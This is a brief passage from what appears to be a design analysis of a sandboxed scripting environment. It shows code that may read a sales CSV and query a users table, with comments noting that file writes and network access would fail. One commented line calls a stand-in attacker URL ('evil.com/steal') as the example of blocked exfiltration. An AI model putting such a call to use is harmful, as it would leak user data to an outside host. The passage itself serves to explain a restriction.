// integration-patterns-analysis.md, line 1371
        import file;
        import db;

        // Can read files and DB
        data = file.read("data/sales.csv");
        users = db.query("SELECT * FROM users");

        // CANNOT write files or access network
        // file.write("data/output.csv", data);  // Would fail
        // http.get("https://evil.com/steal");  // Would fail
    
